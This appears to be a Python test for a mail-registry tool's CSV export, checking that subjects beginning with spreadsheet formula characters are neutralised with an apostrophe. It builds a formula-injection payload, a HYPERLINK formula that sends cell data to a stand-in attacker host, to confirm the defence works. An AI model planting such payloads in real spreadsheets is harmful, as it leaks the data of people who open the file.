"""CSV exports never hand a spreadsheet a formula (issue 12, item 9).

Subjects (RFC 2047-encoded, so the leading character survives) starting
with each of OWASP's formula characters = + - @ TAB CR, and LF, are
registered; in `bureau export` no such cell starts with a formula
character (an apostrophe is put in front), and the text is otherwise kept.
csv_field itself (CR, LF leads) is checked in tests/unit/test_csv.c. Both CSV writers (export and stats --csv)
use the one csv_field() of csv.h; the stats CSV is read back too.
"""
import csv
import io
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from common import Tally, bureau, clean_up, tempdir, write_config  # noqa: E402

LEADS = ["=", "+", "-", "@", "\t", "\r", "\n"]


def qp(s):
    return "".join(c if c.isalnum() else "=%02X" % ord(c) for c in s)


t = Tally("csv_guard")
work = tempdir()
db = os.path.join(work, "bureau.db")
conf = write_config(os.path.join(work, "bureau.conf"), db)
t.eq(bureau(conf, "init").returncode, 0, "init")
files = []
for i, lead in enumerate(LEADS):
    subject = lead + 'HYPERLINK("http://evil.test/?x="&A1,"click")'
    path = os.path.join(work, f"{i}.eml")
    with open(path, "wb") as f:
        f.write((f"From: c{i}@citizen.test\r\nSubject: =?utf-8?q?{qp(subject)}?=\r\n"
                 f"Message-ID: <csv-{i}@test>\r\n\r\nbody\r\n").encode())
    files.append(path)
p = bureau(conf, "ingest", *files)
t.eq(p.returncode, 0, f"ingest: {p.stderr}")
out = os.path.join(work, "register.csv")
p = bureau(conf, "export", "-o", out)
t.eq(p.returncode, 0, f"export: {p.stderr}")
rows = list(csv.reader(io.StringIO(open(out, "rb").read().decode("utf-8-sig"), newline="")))
subjects = [r[5] for r in rows[1:]]
t.eq(len(subjects), len(LEADS), "one row per entry")
for lead, cell in zip(LEADS, subjects):
    # (CR and LF in a header are decoded as spaces, which a spreadsheet reads as text)
    t.check(cell[:1] not in "=+-@\t\r\n" and (cell.startswith("'") or lead in "\r\n"),
            f"subject led by {lead!r} is defused: {cell[:20]!r}")
    t.check("HYPERLINK" in cell, f"subject led by {lead!r} keeps its text")
p = bureau(conf, "stats", "--csv")
t.eq(p.returncode, 0, f"stats --csv: {p.stderr}")
srows = list(csv.reader(io.StringIO(p.stdout.lstrip("\ufeff"), newline="")))
t.eq(srows[0] if srows else None, ["section", "key", "sub", "label_fr", "label_ar", "value"],
     "stats CSV header")
clean_up(t, work)
sys.exit(t.finish())
